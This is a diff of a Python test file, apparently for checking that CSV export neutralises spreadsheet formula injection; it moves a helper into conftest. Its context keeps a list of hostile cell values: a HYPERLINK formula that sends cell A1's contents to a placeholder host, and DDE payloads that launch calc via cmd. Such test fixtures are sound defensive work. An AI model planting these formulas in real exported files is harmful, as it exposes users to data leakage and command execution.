@@ -7,7 +7,7 @@ import csv
 
 import pytest
 
-from conftest import SHARED
+from conftest import sec_case, SHARED
 from test_review_support import synthetic_extraction
 
 LEADS = ("=", "+", "-", "@", "\t", "\r")
@@ -24,12 +24,6 @@ def _live(cell: str) -> bool:
 HOSTILE_TEXT = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
                 "\t=1+1", "\r=1+1"]
 
-
-def sec_case(name: str):
-    path = SHARED / "cases" / "sec" / name
-    if not path.exists():
-        pytest.skip(f"the shared cases are absent: {path} not found (tests read ../shared/cases)")
-    return path
 
 
 def _check_csv(path, hostile: list[str]) -> None:
